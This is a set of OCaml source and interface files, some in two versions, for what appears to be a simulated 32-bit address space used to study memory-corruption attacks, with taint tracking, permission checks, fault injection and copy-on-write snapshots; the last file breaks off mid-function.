(** Rewind the machine to its post-load snapshot and return it. *)

val restores : prepared -> int
(** How many times this prepared image has been rewound. *)

val prepared_input : prepared -> int list * string list
(** The attacker input computed against the (rewound) prepared image —
    what a memoizing cache hashes. *)

(** {1 Frozen images: one prepared snapshot, many domain replicas}

    An [image] is the immutable part of a prepared scenario — the frozen
    post-load snapshot plus program, config, engine and compiled unit.
    It is only ever read, so one image may be shared between domains;
    {!thaw} instantiates a domain-local replica around it without
    re-running [Interp.load]. Replicas share the image's frozen segment
    backing, and their per-run rewinds are dirty-page blits against it. *)

type image

val freeze : prepared -> image
(** The prepared scenario's shareable part. The prepared value remains
    usable; it and every thawed replica rewind to the same snapshot. *)

val thaw : image -> prepared
(** Build a fresh machine shell over the image's address map (with the
    oracle re-attached when the image was sanitized), restore it to the
    frozen snapshot once, and return it as a domain-local replica —
    byte-identical to the prepared value the image was frozen from. *)

val image_engine : image -> engine
val image_sanitized : image -> bool

(** {1 Supervised execution under a fault plan} *)

type supervised = {
  sv_attack : Catalog.t;
  sv_config : Config.t;
  sv_plan : Pna_chaos.Plan.t;
  sv_attempts : int;  (** total runs, including the final one *)
  sv_final_attempt : int;
      (** 1-based index of the attempt whose outcome became the verdict *)
  sv_backoff_ms : int list;
      (** simulated exponential backoff before each retry, oldest first *)
  sv_fired : string list;  (** labels of the faults that actually fired *)
  sv_outcome : Outcome.t;
  sv_verdict : Catalog.verdict;
}

val supervise :
  ?config:Config.t ->
  ?max_retries:int ->
  ?jitter_pct:int ->
  ?max_steps:int ->
  ?reload:(unit -> Machine.t) ->
  ?engine:engine ->
  plan:Pna_chaos.Plan.t ->
  Catalog.t ->
  supervised
(** Run [a] under fault plan [plan] with bounded retry: a transient
    outcome (crash, OOM, timeout) provoked by an injected fault is
    retried up to [max_retries] times with simulated exponential backoff
    — plan faults are one-shot, so retries run progressively cleaner. A
    retried run that then completes is reported as
    [Outcome.Recovered]. No injected fault ever escapes as a raw
    exception; every termination is a classified outcome. [reload]
    replaces the per-attempt image build; a serving layer passes a thunk
    that rewinds a prepared machine ({!reset}) instead.

    [jitter_pct] (default 0: pure powers of two, the historical schedule)
    adds up to that percentage of each backoff step, drawn from a
    generator seeded by the plan — replays of the same plan see the same
    schedule. Retries and give-ups are counted in the process-wide
    registry as [pna_supervise_retries_total] /
    [pna_supervise_giveups_total]. *)

val pp_supervised : Format.formatter -> supervised -> unit

(** {1 Memory inspection helpers for checks} *)

val global_addr : Machine.t -> string -> int
val u32 : Machine.t -> int -> int
val f64 : Machine.t -> int -> float
val tainted : Machine.t -> int -> int -> bool
val bytes : Machine.t -> int -> int -> string
val global_u32 : ?off:int -> Machine.t -> string -> int
val global_f64 : ?off:int -> Machine.t -> string -> float
val global_tainted : ?off:int -> Machine.t -> string -> int -> bool
val output_contains : Outcome.t -> string -> bool
val pp_result : Format.formatter -> result -> unit
