(** Copy-on-write building blocks shared by the snapshot layers.

    Two pieces: globally unique generation tokens (mint one at every
    mutation of a versioned structure; token equality then proves the
    structure has not changed since a snapshot captured it), and a
    page-granular dirty bitmap for byte arrays that are not {!Segment}s
    — the sanitizer's shadow maps use it so their restores, too, blit
    only touched pages. *)

(* Tokens are minted from one process-wide atomic so that snapshots can
   travel between machines and domains (the service's replica-thaw path)
   without two different states ever sharing a token. 0 is reserved as
   "never synced". *)
let gen_counter = Atomic.make 0

let fresh_gen () = 1 + Atomic.fetch_and_add gen_counter 1

module Bitmap = struct
  let page_shift = Segment.page_shift
  let page_size = Segment.page_size

  type t = {
    len : int;  (* covered bytes *)
    pages : Bytes.t;  (* one byte per page; nonzero = touched *)
    mutable any : bool;  (* false implies every page byte is zero *)
  }

  let create len =
    if len < 0 then invalid_arg "Cow.Bitmap.create: negative length";
    {
      len;
      pages = Bytes.make ((len + page_size - 1) lsr page_shift) '\001';
      any = true;
    }

  let[@inline] mark t off len =
    if len > 0 then begin
      let p0 = off lsr page_shift and p1 = (off + len - 1) lsr page_shift in
      if p0 = p1 then Bytes.unsafe_set t.pages p0 '\001'
      else Bytes.fill t.pages p0 (p1 - p0 + 1) '\001';
      t.any <- true
    end

  let mark_all t =
    Bytes.fill t.pages 0 (Bytes.length t.pages) '\001';
    t.any <- true

  let clear t =
    if t.any then begin
      Bytes.fill t.pages 0 (Bytes.length t.pages) '\000';
      t.any <- false
    end

  let any t = t.any

  (* [f off len] over maximal dirty-page runs, clamped to the covered
     length. *)
  let iter_runs t f =
    if t.any then begin
      let npages = Bytes.length t.pages in
      let i = ref 0 in
      while !i < npages do
        if Bytes.unsafe_get t.pages !i <> '\000' then begin
          let j = ref (!i + 1) in
          while !j < npages && Bytes.unsafe_get t.pages !j <> '\000' do
            incr j
          done;
          let o = !i lsl page_shift in
          f o (min (!j lsl page_shift) t.len - o);
          i := !j
        end
        else incr i
      done
    end
end
