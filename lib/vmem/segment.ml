(** A contiguous region of the simulated address space.

    Each segment owns a byte array for contents and a parallel byte array
    for taint: a byte is tainted when its value was derived from attacker
    input. Taint travels with every copy performed through {!Vmem}, which is
    what lets the attack drivers prove (rather than eyeball) that a saved
    return address or a vtable pointer has become attacker-controlled. *)

type kind = Text | Data | Bss | Heap | Stack | Mmap

let kind_name = function
  | Text -> "text"
  | Data -> "data"
  | Bss -> "bss"
  | Heap -> "heap"
  | Stack -> "stack"
  | Mmap -> "mmap"

let kind_count = 6

(* Dense index used by Vmem's per-kind accounting rows. *)
let kind_index = function
  | Text -> 0
  | Data -> 1
  | Bss -> 2
  | Heap -> 3
  | Stack -> 4
  | Mmap -> 5

(* Dirty-page granularity for copy-on-write snapshots. 256 bytes keeps
   the bitmap tiny (1 KiB for the 256 KiB heap) while making a lightly
   dirtied rewind blit a few hundred bytes instead of megabytes. *)
let page_shift = 8
let page_size = 1 lsl page_shift

type t = {
  kind : kind;
  base : int;
  size : int;
  bytes : Bytes.t;
  taint : Bytes.t;
  mutable perm : Perm.t;
  dirty : Bytes.t;  (* one byte per page; nonzero = touched since last sync *)
  mutable dirty_any : bool;  (* false implies every byte of [dirty] is zero *)
}

let page_count size = (size + page_size - 1) lsr page_shift

let create ~kind ~base ~size ~perm =
  if size <= 0 then invalid_arg "Segment.create: size must be positive";
  if base < 0 then invalid_arg "Segment.create: negative base";
  {
    kind;
    base;
    size;
    bytes = Bytes.make size '\000';
    taint = Bytes.make size '\000';
    perm;
    dirty = Bytes.make (page_count size) '\001';
    dirty_any = true;
  }

let limit t = t.base + t.size
let contains t addr = addr >= t.base && addr < limit t

(* Offset of [addr] inside [t]; caller must have checked [contains]. *)
let off t addr = addr - t.base

let get_byte t addr = Char.code (Bytes.get t.bytes (off t addr))

(* Mark [len] bytes at segment offset [o] as touched. At most two pages
   for scalar widths, so the common case is one or two byte stores. *)
let[@inline] mark_dirty t o len =
  if len > 0 then begin
    let p0 = o lsr page_shift and p1 = (o + len - 1) lsr page_shift in
    if p0 = p1 then Bytes.unsafe_set t.dirty p0 '\001'
    else Bytes.fill t.dirty p0 (p1 - p0 + 1) '\001';
    t.dirty_any <- true
  end

let mark_all_dirty t =
  Bytes.fill t.dirty 0 (Bytes.length t.dirty) '\001';
  t.dirty_any <- true

let clear_dirty t =
  if t.dirty_any then begin
    Bytes.fill t.dirty 0 (Bytes.length t.dirty) '\000';
    t.dirty_any <- false
  end

(* Coalesced maximal runs of dirty pages, clamped to the segment size:
   [f off len] with [off]/[len] in bytes relative to the segment base. *)
let iter_dirty_runs t f =
  if t.dirty_any then begin
    let npages = Bytes.length t.dirty in
    let i = ref 0 in
    while !i < npages do
      if Bytes.unsafe_get t.dirty !i <> '\000' then begin
        let j = ref (!i + 1) in
        while !j < npages && Bytes.unsafe_get t.dirty !j <> '\000' do
          incr j
        done;
        let o = !i lsl page_shift in
        f o (min (!j lsl page_shift) t.size - o);
        i := !j
      end
      else incr i
    done
  end

let set_byte t addr v =
  let o = off t addr in
  Bytes.set t.bytes o (Char.chr (v land 0xff));
  mark_dirty t o 1

let get_taint t addr = Bytes.get t.taint (off t addr) <> '\000'

let set_taint t addr tainted =
  let o = off t addr in
  Bytes.set t.taint o (if tainted then '\001' else '\000');
  mark_dirty t o 1

let clear t =
  Bytes.fill t.bytes 0 t.size '\000';
  Bytes.fill t.taint 0 t.size '\000';
  mark_all_dirty t

let pp ppf t =
  Fmt.pf ppf "%-5s [0x%08x, 0x%08x) %a" (kind_name t.kind) t.base (limit t)
    Perm.pp t.perm
