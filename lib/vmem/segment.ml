(** A contiguous region of the simulated address space.

    Each segment owns a byte array for contents and a parallel byte array
    for taint: a byte is tainted when its value was derived from attacker
    input. Taint travels with every copy performed through {!Vmem}, which is
    what lets the attack drivers prove (rather than eyeball) that a saved
    return address or a vtable pointer has become attacker-controlled. *)

type kind = Text | Data | Bss | Heap | Stack | Mmap

let kind_name = function
  | Text -> "text"
  | Data -> "data"
  | Bss -> "bss"
  | Heap -> "heap"
  | Stack -> "stack"
  | Mmap -> "mmap"

let kind_count = 6

(* Dense index used by Vmem's per-kind accounting rows. *)
let kind_index = function
  | Text -> 0
  | Data -> 1
  | Bss -> 2
  | Heap -> 3
  | Stack -> 4
  | Mmap -> 5

type t = {
  kind : kind;
  base : int;
  size : int;
  bytes : Bytes.t;
  taint : Bytes.t;
  mutable perm : Perm.t;
}

let create ~kind ~base ~size ~perm =
  if size <= 0 then invalid_arg "Segment.create: size must be positive";
  if base < 0 then invalid_arg "Segment.create: negative base";
  {
    kind;
    base;
    size;
    bytes = Bytes.make size '\000';
    taint = Bytes.make size '\000';
    perm;
  }

let limit t = t.base + t.size
let contains t addr = addr >= t.base && addr < limit t

(* Offset of [addr] inside [t]; caller must have checked [contains]. *)
let off t addr = addr - t.base

let get_byte t addr = Char.code (Bytes.get t.bytes (off t addr))

let set_byte t addr v =
  Bytes.set t.bytes (off t addr) (Char.chr (v land 0xff))

let get_taint t addr = Bytes.get t.taint (off t addr) <> '\000'

let set_taint t addr tainted =
  Bytes.set t.taint (off t addr) (if tainted then '\001' else '\000')

let clear t =
  Bytes.fill t.bytes 0 t.size '\000';
  Bytes.fill t.taint 0 t.size '\000'

let pp ppf t =
  Fmt.pf ppf "%-5s [0x%08x, 0x%08x) %a" (kind_name t.kind) t.base (limit t)
    Perm.pp t.perm
