(** The simulated address space of a 32-bit little-endian process.

    All checked accessors verify mapping and permissions per byte and raise
    {!Fault.Fault} exactly where a real MMU would trap. 32-bit word values
    are OCaml [int]s in [0, 0xffff_ffff]; {!to_signed32} gives the signed
    view. Every write carries a taint flag; taint marks bytes whose value
    derives from attacker input and travels with copies.

    Scalar accessors take a fast path — one segment lookup, one
    permission check, one stats bump, one taint splat against the
    segment's backing bytes — whenever the whole range lies inside one
    segment and no chaos hook, observer or write trace is armed. Any
    other case (straddle, unmapped gap, protection boundary, armed
    hook) falls back to the per-byte reference path, so faults,
    observations, taint and chaos injection are bit-identical. *)

type write_record = { w_addr : int; w_len : int; w_tag : string }

type t

val word_size : int
(** 4: the machine is ILP32. *)

(** {1 Mapping} *)

val create : unit -> t

val map :
  t -> kind:Segment.kind -> base:int -> size:int -> perm:Perm.t -> Segment.t
(** Map a fresh segment. @raise Invalid_argument on overlap. *)

val add_segment : t -> Segment.t -> Segment.t
val segments : t -> Segment.t list
(** Sorted by base address. *)

val find_segment : t -> int -> Segment.t option
val segment_of_kind : t -> Segment.kind -> Segment.t option

(** {1 Checked scalar access} *)

val read_u8 : t -> int -> int
val write_u8 : ?tag:string -> ?taint:bool -> t -> int -> int -> unit
val read_u16 : t -> int -> int
val write_u16 : ?tag:string -> ?taint:bool -> t -> int -> int -> unit
val read_u32 : t -> int -> int
val write_u32 : ?tag:string -> ?taint:bool -> t -> int -> int -> unit
val read_u64 : t -> int -> int64
val write_u64 : ?tag:string -> ?taint:bool -> t -> int -> int64 -> unit
val read_f64 : t -> int -> float
val write_f64 : ?tag:string -> ?taint:bool -> t -> int -> float -> unit
val read_i32 : t -> int -> int
(** Signed view of a u32 read. *)

val write_i32 : ?tag:string -> ?taint:bool -> t -> int -> int -> unit

val to_signed32 : int -> int
val of_signed32 : int -> int

(** {1 Combined scalar reads}

    Value plus any-byte-tainted in a single segment resolution — the
    scalar-load fast path for the execution engines, which otherwise pay
    one resolution for the taint query and another for the read.
    Accounting and semantics are exactly [read_uN] + [range_tainted]:
    reads are bumped by the access width, the taint scan is unaccounted,
    and when the fast path does not apply (hooks armed, straddling span)
    the two calls are made in that order. The integer variants return
    [bits lsl 1 lor taint] — packed in one immediate so the hot load
    path stays allocation-free. *)

val read_u8_taint : t -> int -> int
val read_u16_taint : t -> int -> int
val read_u32_taint : t -> int -> int
val read_f64_taint : t -> int -> float * bool

(** {1 Loader-only raw access}

    Bypass permission checks; used to install read-only images (vtables,
    text, literals) before execution. *)

val poke_u8 : t -> int -> int -> unit
val poke_u32 : t -> int -> int -> unit

val poke_bytes : t -> int -> string -> unit
(** Raw multi-byte store; existing taint on the range is preserved. *)

(** {1 Block operations} *)

val blit : ?tag:string -> t -> src:int -> dst:int -> len:int -> unit
(** memmove semantics; taint travels with the bytes. *)

val fill : ?tag:string -> ?taint:bool -> t -> dst:int -> len:int -> int -> unit

val write_bytes : ?tag:string -> ?taint:bool -> t -> int -> string -> unit
(** Store a whole string at [addr] — the [memcpy]/[recv]-shaped bulk
    write (default tag ["blit"]). One checked blit when the range sits
    inside one writable segment; per-byte otherwise. *)

val write_string : ?tag:string -> ?taint:bool -> t -> int -> string -> unit
(** {!write_bytes} with default tag ["str"]. *)

val read_cstring : ?max_len:int -> t -> int -> string
(** Read a NUL-terminated string, bounded by [max_len] (default 4096). *)

val read_bytes : t -> int -> int -> string

(** {1 Taint queries} *)

val taint_of : t -> int -> bool
val range_tainted : t -> int -> int -> bool
val tainted_bytes : t -> int -> int -> int
val set_taint : t -> int -> int -> bool -> unit

(** {1 Fault injection} *)

type chaos_hook = access:Fault.access -> addr:int -> byte:int -> int
(** Called on every checked byte access with the byte about to be
    returned (reads) or stored (writes); the result replaces it, masked
    to 8 bits. The chaos layer uses this to model memory bit flips. *)

val set_chaos : t -> chaos_hook option -> unit

(** {1 Access observation} *)

type access_hook = access:Fault.access -> addr:int -> taint:bool -> unit
(** Called on every checked byte access after the permission check
    succeeds, before the byte moves. Cannot perturb the access; the
    sanitizer uses it to classify accesses against its shadow map.
    Loader pokes and taint-metadata queries bypass it. *)

val set_observer : t -> access_hook option -> unit

(** {1 Snapshot / restore}

    The substitution that powers the scenario service: freeze a prepared
    address space once, then rewind to it between requests instead of
    rebuilding the image. A snapshot owns deep copies of every segment's
    contents and taint, the permission words and the write-trace state, so
    it remains valid however the live space is mutated afterwards; frozen
    backing is immutable, so snapshots may be shared across domains.

    Rewinds are copy-on-write: every write path marks the 256-byte pages
    it touches, and restoring the snapshot the space is currently synced
    to blits only dirty pages. Any other case — a different or foreign
    snapshot, a shape change, COW disabled — takes the full-copy
    reference path and re-establishes the sync. Restored state is
    bit-identical either way (the E20 gate proves it). *)

type snapshot

val snapshot : t -> snapshot

val restore : t -> snapshot -> unit
(** Rewind contents, taint, permissions and write-trace state to the
    snapshot. Segments mapped after the snapshot are unmapped again;
    segments present at snapshot time are restored in place, so
    [Segment.t] references held elsewhere stay valid. The chaos hook is
    untouched — it is runtime configuration, not memory state. *)

val set_cow : t -> bool -> unit
(** Enable (default) or disable dirty-page rewinds and clean-segment
    sharing. Disabling also drops the current sync, so every subsequent
    snapshot and restore deep-copies — the reference behaviour the E20
    equivalence gate compares against. *)

val cow_enabled : t -> bool

(** {1 Access accounting}

    Monotonic counters over the checked accessors, one row per segment
    kind. They survive {!restore} — they describe what the simulator
    did, not what memory contains — so run deltas come from sampling
    before and after. Loader pokes and taint-metadata queries are not
    counted. *)

type access_stats = {
  mutable a_reads : int;
  mutable a_writes : int;
  mutable a_taint_writes : int;
}

type stats = {
  by_kind : (Segment.kind * access_stats) list;
  rows : access_stats array;
      (** the same rows, indexed by {!Segment.kind_index} — the form the
          accessors' hot path uses *)
  mutable faults : int;
  mutable trace_dropped : int;
      (** write records evicted by the bounded trace ring *)
}

val access_stats : t -> stats
val total_reads : t -> int
val total_writes : t -> int
val total_taint_writes : t -> int
val total_faults : t -> int
val pp_stats : Format.formatter -> t -> unit

(** {1 Write tracing}

    Enabling the trace forces every write onto the per-byte path (one
    record per byte written). Records land in a bounded ring: once
    [cap] records are retained each new record evicts the oldest and
    counts into [stats.trace_dropped]. *)

val enable_trace : t -> unit
val clear_trace : t -> unit

val set_trace_cap : t -> int -> unit
(** Bound the ring to [cap] records (default 65536), evicting the
    oldest surplus. @raise Invalid_argument when [cap < 1]. *)

val trace_dropped : t -> int
(** Total records evicted from the ring; monotonic like {!stats}. *)

val trace : t -> write_record list
(** Retained records, oldest first. *)

val pp : Format.formatter -> t -> unit
