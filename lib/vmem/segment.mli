(** A contiguous region of the simulated address space with per-byte
    contents and attacker-taint. Byte-level accessors here are unchecked;
    use {!Vmem} for permission-checked access. *)

type kind = Text | Data | Bss | Heap | Stack | Mmap

val kind_name : kind -> string

val kind_count : int

val kind_index : kind -> int
(** Dense index in [0, kind_count): declaration order. *)

type t = {
  kind : kind;
  base : int;
  size : int;
  bytes : Bytes.t;
  taint : Bytes.t;
  mutable perm : Perm.t;
}

val create : kind:kind -> base:int -> size:int -> perm:Perm.t -> t
(** @raise Invalid_argument on a non-positive size or negative base. *)

val limit : t -> int
(** One past the last mapped address. *)

val contains : t -> int -> bool

val get_byte : t -> int -> int
(** Unchecked read; the address must be inside the segment. *)

val set_byte : t -> int -> int -> unit
(** Unchecked write of the low 8 bits of the value. *)

val get_taint : t -> int -> bool
val set_taint : t -> int -> bool -> unit

val clear : t -> unit
(** Zero both contents and taint. *)

val pp : Format.formatter -> t -> unit
