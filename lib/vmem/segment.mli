(** A contiguous region of the simulated address space with per-byte
    contents and attacker-taint. Byte-level accessors here are unchecked;
    use {!Vmem} for permission-checked access. *)

type kind = Text | Data | Bss | Heap | Stack | Mmap

val kind_name : kind -> string

val kind_count : int

val kind_index : kind -> int
(** Dense index in [0, kind_count): declaration order. *)

val page_shift : int
(** Dirty-tracking granularity: pages are [1 lsl page_shift] bytes. *)

val page_size : int

type t = {
  kind : kind;
  base : int;
  size : int;
  bytes : Bytes.t;
  taint : Bytes.t;
  mutable perm : Perm.t;
  dirty : Bytes.t;
      (** one byte per {!page_size}-byte page; nonzero = the page was
          touched (contents or taint) since the last {!clear_dirty} *)
  mutable dirty_any : bool;
      (** [false] implies every byte of [dirty] is zero — the cheap
          "nothing to rewind" test *)
}

val create : kind:kind -> base:int -> size:int -> perm:Perm.t -> t
(** @raise Invalid_argument on a non-positive size or negative base. *)

val limit : t -> int
(** One past the last mapped address. *)

val contains : t -> int -> bool

val get_byte : t -> int -> int
(** Unchecked read; the address must be inside the segment. *)

val set_byte : t -> int -> int -> unit
(** Unchecked write of the low 8 bits of the value. *)

val get_taint : t -> int -> bool
val set_taint : t -> int -> bool -> unit

val clear : t -> unit
(** Zero both contents and taint. *)

(** {1 Dirty-page tracking}

    A fresh segment starts fully dirty: its contents have not been
    synced against any snapshot. Writers mark; {!Vmem}'s snapshot and
    restore clear at sync points. *)

val mark_dirty : t -> int -> int -> unit
(** [mark_dirty t off len]: mark the pages covering [len] bytes at
    segment offset [off] as touched. No-op when [len <= 0]. *)

val mark_all_dirty : t -> unit
val clear_dirty : t -> unit

val iter_dirty_runs : t -> (int -> int -> unit) -> unit
(** Apply [f off len] to each maximal run of dirty pages, offsets and
    lengths in bytes relative to the segment base, clamped to [size]. *)

val pp : Format.formatter -> t -> unit
