(** The simulated address space of a 32-bit little-endian process.

    This is the substrate every attack in the paper runs on: a set of
    disjoint segments (text/data/bss/heap/stack) with byte-level access,
    permission checks, and per-byte taint propagation. All multi-byte
    accesses are little-endian, matching the x86 Ubuntu system of the paper.

    Values of 32-bit words are represented as OCaml [int] in the range
    [0, 0xffff_ffff]; use {!to_signed32} for the signed view. *)

type write_record = { w_addr : int; w_len : int; w_tag : string }

(** Fault-injection hook: called on every checked byte access with the byte
    about to be moved; returns the byte actually moved (possibly perturbed)
    and may raise {!Fault.Fault} to model a spurious hardware trap. Loader
    pokes bypass it. *)
type chaos_hook = access:Fault.access -> addr:int -> byte:int -> int

(** Observation hook: called on every checked byte access after the
    permission check succeeds. Unlike {!chaos_hook} it cannot perturb the
    byte; the sanitizer uses it to classify accesses against its shadow
    map. Loader pokes and taint-metadata queries bypass it. *)
type access_hook = access:Fault.access -> addr:int -> taint:bool -> unit

(* Monotonic access accounting, one row per segment kind. Deliberately
   plain mutable ints: the accessors below are the simulator's hottest
   path and must not pay for atomics (a [t] is single-domain by
   construction — the service clones one per worker). Counters survive
   snapshot/restore: they describe what the simulator *did*, not what
   memory *contains*. *)
type access_stats = {
  mutable a_reads : int;
  mutable a_writes : int;
  mutable a_taint_writes : int;
}

type stats = {
  by_kind : (Segment.kind * access_stats) list;  (* all six kinds *)
  mutable faults : int;  (* unmapped + protection, any kind *)
}

let fresh_stats () =
  {
    by_kind =
      List.map
        (fun k -> (k, { a_reads = 0; a_writes = 0; a_taint_writes = 0 }))
        Segment.[ Text; Data; Bss; Heap; Stack; Mmap ];
    faults = 0;
  }

type t = {
  mutable segments : Segment.t list;
  mutable trace_enabled : bool;
  mutable trace : write_record list;  (* most recent first *)
  mutable chaos : chaos_hook option;
  mutable observer : access_hook option;
  stats : stats;
}

let word_size = 4

let create () =
  {
    segments = [];
    trace_enabled = false;
    trace = [];
    chaos = None;
    observer = None;
    stats = fresh_stats ();
  }

let access_stats t = t.stats

let stats_row t kind = List.assq kind t.stats.by_kind

let set_chaos t hook = t.chaos <- hook
let set_observer t hook = t.observer <- hook

let add_segment t seg =
  let overlaps s =
    seg.Segment.base < Segment.limit s && s.Segment.base < Segment.limit seg
  in
  if List.exists overlaps t.segments then
    invalid_arg "Vmem.add_segment: overlapping segment";
  t.segments <- seg :: t.segments;
  seg

let map t ~kind ~base ~size ~perm =
  add_segment t (Segment.create ~kind ~base ~size ~perm)

let segments t =
  List.sort (fun a b -> compare a.Segment.base b.Segment.base) t.segments

let find_segment t addr = List.find_opt (fun s -> Segment.contains s addr) t.segments

let segment_of_kind t kind =
  List.find_opt (fun s -> s.Segment.kind = kind) t.segments

let enable_trace t = t.trace_enabled <- true
let clear_trace t = t.trace <- []
let trace t = List.rev t.trace

let record_write t addr len tag =
  if t.trace_enabled then
    t.trace <- { w_addr = addr; w_len = len; w_tag = tag } :: t.trace

(* Locate the segment for a checked access, enforcing permissions. *)
let checked t addr access =
  match find_segment t addr with
  | None ->
    t.stats.faults <- t.stats.faults + 1;
    Fault.raise_ (Fault.Unmapped (addr, access))
  | Some seg ->
    let ok =
      match access with
      | Fault.Read -> seg.Segment.perm.Perm.read
      | Fault.Write -> seg.Segment.perm.Perm.write
      | Fault.Execute -> seg.Segment.perm.Perm.execute
    in
    if not ok then begin
      t.stats.faults <- t.stats.faults + 1;
      Fault.raise_ (Fault.Protection (addr, access))
    end;
    seg

let read_u8 t addr =
  let seg = checked t addr Fault.Read in
  let row = stats_row t seg.Segment.kind in
  row.a_reads <- row.a_reads + 1;
  (match t.observer with
  | None -> ()
  | Some f -> f ~access:Fault.Read ~addr ~taint:false);
  let b = Segment.get_byte seg addr in
  match t.chaos with
  | None -> b
  | Some f -> f ~access:Fault.Read ~addr ~byte:b land 0xff

let taint_of t addr =
  let seg = checked t addr Fault.Read in
  Segment.get_taint seg addr

let write_u8 ?(tag = "") ?(taint = false) t addr v =
  let seg = checked t addr Fault.Write in
  let row = stats_row t seg.Segment.kind in
  row.a_writes <- row.a_writes + 1;
  if taint then row.a_taint_writes <- row.a_taint_writes + 1;
  (match t.observer with
  | None -> ()
  | Some f -> f ~access:Fault.Write ~addr ~taint);
  let v =
    match t.chaos with
    | None -> v
    | Some f -> f ~access:Fault.Write ~addr ~byte:v land 0xff
  in
  Segment.set_byte seg addr v;
  Segment.set_taint seg addr taint;
  record_write t addr 1 tag

(* Multi-byte little-endian accessors. Each byte is checked individually so
   that an access straddling a segment boundary faults exactly where a real
   MMU would. *)

let read_uN t addr n =
  let rec go i acc =
    if i = n then acc
    else go (i + 1) (acc lor (read_u8 t (addr + i) lsl (8 * i)))
  in
  go 0 0

let write_uN ?(tag = "") ?(taint = false) t addr n v =
  for i = 0 to n - 1 do
    write_u8 ~tag ~taint t (addr + i) ((v lsr (8 * i)) land 0xff)
  done

let read_u16 t addr = read_uN t addr 2
let write_u16 ?tag ?taint t addr v = write_uN ?tag ?taint t addr 2 v
let read_u32 t addr = read_uN t addr 4
let write_u32 ?tag ?taint t addr v = write_uN ?tag ?taint t addr 4 (v land 0xffffffff)

let read_u64 t addr =
  let lo = Int64.of_int (read_u32 t addr) in
  let hi = Int64.of_int (read_u32 t (addr + 4)) in
  Int64.logor lo (Int64.shift_left hi 32)

let write_u64 ?tag ?taint t addr v =
  write_u32 ?tag ?taint t addr Int64.(to_int (logand v 0xffffffffL));
  write_u32 ?tag ?taint t (addr + 4)
    Int64.(to_int (logand (shift_right_logical v 32) 0xffffffffL))

let read_f64 t addr = Int64.float_of_bits (read_u64 t addr)
let write_f64 ?tag ?taint t addr v = write_u64 ?tag ?taint t addr (Int64.bits_of_float v)

(* Loader-only writes: bypass permission checks so the machine can install
   read-only images (vtables, text stubs) before execution starts. *)

let poke_u8 t addr v =
  match find_segment t addr with
  | None -> Fault.raise_ (Fault.Unmapped (addr, Fault.Write))
  | Some seg -> Segment.set_byte seg addr v

let poke_u32 t addr v =
  for i = 0 to 3 do
    poke_u8 t (addr + i) ((v lsr (8 * i)) land 0xff)
  done

let to_signed32 v = if v land 0x80000000 <> 0 then v - 0x100000000 else v
let of_signed32 v = v land 0xffffffff

let read_i32 t addr = to_signed32 (read_u32 t addr)
let write_i32 ?tag ?taint t addr v = write_u32 ?tag ?taint t addr (of_signed32 v)

(* Block operations: taint travels with the bytes. *)

(* No simulated segment is anywhere near this large, so a longer copy is
   guaranteed to walk off its segment and fault; stream it instead of
   materializing a buffer (an attacker-controlled size_t must not make the
   *simulator* allocate gigabytes). *)
let max_buffered_copy = 0x100000

let blit ?(tag = "blit") t ~src ~dst ~len =
  if len <= max_buffered_copy then
    (* Copy via an intermediate buffer so overlapping ranges behave like
       memmove; overflow exploits in the paper never rely on memcpy-style
       overlap corruption. *)
    let buf = Array.init len (fun i -> (read_u8 t (src + i), taint_of t (src + i))) in
    Array.iteri (fun i (b, tn) -> write_u8 ~tag ~taint:tn t (dst + i) b) buf
  else
    for i = 0 to len - 1 do
      let b = read_u8 t (src + i) and tn = taint_of t (src + i) in
      write_u8 ~tag ~taint:tn t (dst + i) b
    done

let fill ?(tag = "fill") ?(taint = false) t ~dst ~len v =
  for i = 0 to len - 1 do
    write_u8 ~tag ~taint t (dst + i) v
  done

let write_string ?(tag = "str") ?(taint = false) t addr s =
  String.iteri (fun i c -> write_u8 ~tag ~taint t (addr + i) (Char.code c)) s

(* Read a NUL-terminated C string, bounded to avoid walking the whole
   address space on corrupted data. *)
let read_cstring ?(max_len = 4096) t addr =
  let buf = Buffer.create 16 in
  let rec go i =
    if i >= max_len then Buffer.contents buf
    else
      match read_u8 t (addr + i) with
      | 0 -> Buffer.contents buf
      | b ->
        Buffer.add_char buf (Char.chr b);
        go (i + 1)
  in
  go 0

(* Buffer-based so that an attacker-controlled length faults at the segment
   boundary instead of asking the host for a multi-gigabyte string. *)
let read_bytes t addr len =
  let b = Buffer.create (max 16 (min len 4096)) in
  for i = 0 to len - 1 do
    Buffer.add_char b (Char.chr (read_u8 t (addr + i)))
  done;
  Buffer.contents b

(* Taint queries used by attack drivers to prove corruption provenance. *)

let range_tainted t addr len =
  let rec go i = i < len && (taint_of t (addr + i) || go (i + 1)) in
  go 0

let tainted_bytes t addr len =
  let n = ref 0 in
  for i = 0 to len - 1 do
    if taint_of t (addr + i) then incr n
  done;
  !n

let set_taint t addr len tainted =
  for i = 0 to len - 1 do
    let seg = checked t (addr + i) Fault.Read in
    Segment.set_taint seg (addr + i) tainted
  done

(* ------------------------------------------------------------------ *)
(* Snapshot / restore                                                   *)

(* One frozen segment: identity (kind/base/size) plus deep copies of the
   mutable payload. The copies are private to the snapshot, so a snapshot
   stays valid however the live address space is mutated afterwards. *)
type frozen_segment = {
  fz_kind : Segment.kind;
  fz_base : int;
  fz_size : int;
  fz_perm : Perm.t;
  fz_bytes : Bytes.t;
  fz_taint : Bytes.t;
}

type snapshot = {
  sn_segments : frozen_segment list;
  sn_trace_enabled : bool;
  sn_trace : write_record list;
}

let snapshot t =
  {
    sn_segments =
      List.map
        (fun (s : Segment.t) ->
          {
            fz_kind = s.Segment.kind;
            fz_base = s.Segment.base;
            fz_size = s.Segment.size;
            fz_perm = s.Segment.perm;
            fz_bytes = Bytes.copy s.Segment.bytes;
            fz_taint = Bytes.copy s.Segment.taint;
          })
        t.segments;
    sn_trace_enabled = t.trace_enabled;
    sn_trace = t.trace;
  }

(* Restore contents, taint, permissions and trace state to the snapshot.
   Segments mapped after the snapshot are unmapped again; segments present
   at snapshot time are restored *in place*, so references held elsewhere
   (the heap allocator, attack checks) stay valid. The chaos hook is
   deliberately untouched: it is runtime configuration, not memory state. *)
let restore t snap =
  let live = t.segments in
  let restored =
    List.map
      (fun fz ->
        let seg =
          match
            List.find_opt
              (fun (s : Segment.t) ->
                s.Segment.base = fz.fz_base && s.Segment.size = fz.fz_size
                && s.Segment.kind = fz.fz_kind)
              live
          with
          | Some s -> s
          | None ->
            Segment.create ~kind:fz.fz_kind ~base:fz.fz_base ~size:fz.fz_size
              ~perm:fz.fz_perm
        in
        Bytes.blit fz.fz_bytes 0 seg.Segment.bytes 0 fz.fz_size;
        Bytes.blit fz.fz_taint 0 seg.Segment.taint 0 fz.fz_size;
